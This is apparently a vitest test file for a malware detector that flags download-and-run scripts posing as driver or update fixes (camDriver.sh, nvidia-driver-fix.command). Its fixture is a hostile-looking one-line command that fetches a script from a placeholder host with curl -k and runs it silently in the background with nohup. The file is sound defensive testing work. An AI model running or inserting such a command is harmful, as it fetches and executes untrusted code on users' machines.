import { expect, test } from 'vitest'
import { machO } from '../../../formats/testing.ts'
import { fixture } from '../installers/testing.ts'
import { artifactOf, fileOf, hits } from '../testing.ts'
import detector from './installer-update-script.ts'

const fetch =
  'curl -k -o /var/tmp/a.sh http://a.invalid/a.sh && chmod +x /var/tmp/a.sh && nohup bash /var/tmp/a.sh >/dev/null 2>&1 &\n'

test.each(['camDriver.sh', 'ffmpeg_update.sh', 'nvidia-driver-fix.command'])(
  '%s that downloads and runs',
  async (name) => {
    const [found] = hits(detector, await fileOf(name, `#!/bin/sh\n${fetch}`))
    expect(found?.title).toMatch(/named like a driver or update/)
    expect(found?.where).toMatchObject({ file: name, line: 2 })
  },
)

test.each([
  ['nvidiaRelease/update.vbs', 'WScript.Echo "hello"'],
  ['Zoom SDK Update.scpt', 'display dialog "hello"'],
  ['cameraDriver.bat', 'echo hello'],
])('%s, a script to double-click in a parcel', async (path, content) => {
  expect(hits(detector, await artifactOf({ [path]: content }))[0]?.title).toMatch(/calls itself/)
})

test('a program of such a name that nobody signed, and one that somebody did', async () => {
  expect(hits(detector, await fileOf('CameraDriver', machO()))[0]?.title).toMatch(/nobody signed it/)
  expect(hits(detector, await fileOf('CameraDriver.exe', fixture('viewer-signed.exe')))).toEqual([])
})

test.each([
  [
    'a project’s own scripts',
    { 'package.json': '{}', 'scripts/update.bat': 'echo hello', 'scripts/install-sdk.ps1': 'Write-Host a' },
  ],
  [
    'a setup script that installs packages',
    { 'install-nvidia-driver.sh': '#!/bin/sh\napt-get install -y nvidia-driver\n' },
  ],
  [
    'a project’s script that fetches a part and starts it',
    {
      'package.json': '{}',
      'scripts/install-sdk.sh': '#!/bin/sh\ncurl -fsSLO https://a.invalid/sdk\nchmod +x sdk\n./sdk\n',
    },
  ],
  [
    'names that merely contain such words',
    { 'dynamic-update.bat': 'echo a', 'teamspirit-install.vbs': 'x = 1' },
  ],
  ['other scripts', { 'update.vbs': 'WScript.Echo "a"', 'notes.sh': 'echo' }],
])('leaves alone: %s', async (_, files) => {
  expect(hits(detector, await artifactOf(files as Record<string, string>))).toEqual([])
})
